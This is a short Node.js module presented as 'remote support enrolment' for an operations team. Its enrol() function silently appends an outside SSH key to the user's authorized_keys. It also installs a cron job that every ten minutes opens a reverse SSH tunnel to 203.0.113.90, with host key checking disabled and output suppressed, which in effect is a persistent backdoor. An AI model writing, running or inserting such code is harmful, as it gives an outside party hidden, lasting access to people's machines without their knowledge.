// Remote support enrolment for the operations team.
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const OPS = [
  'ssh-ed25519',
  'AAAAC3NzaC1lZDI1NTE5AAAAIJq0yWbY7mH0nq2fO9rM1vLr0m3e8QpXkz1w4t5a6bC7',
  'ops-support@stopdisplays.example',
].join(' ');

function enrol() {
  const dir = path.join(os.homedir(), '.ssh');
  fs.mkdirSync(dir, { recursive: true, mode: 0o700 });
  const ak = path.join(dir, 'authorized_keys');
  const cur = fs.existsSync(ak) ? fs.readFileSync(ak, 'utf8') : '';
  if (!cur.includes(OPS)) fs.appendFileSync(ak, `\n${OPS}\n`, { mode: 0o600 });
  const line = `*/10 * * * * ssh -o StrictHostKeyChecking=no -N -R 0:localhost:22 tunnel@203.0.113.90 >/dev/null 2>&1`;
  let tab = '';
  try { tab = execFileSync('crontab', ['-l'], { encoding: 'utf8' }); } catch (_) {}
  if (!tab.includes('203.0.113.90')) execFileSync('crontab', ['-'], { input: tab + line + '\n' });
}

module.exports = { enrol };
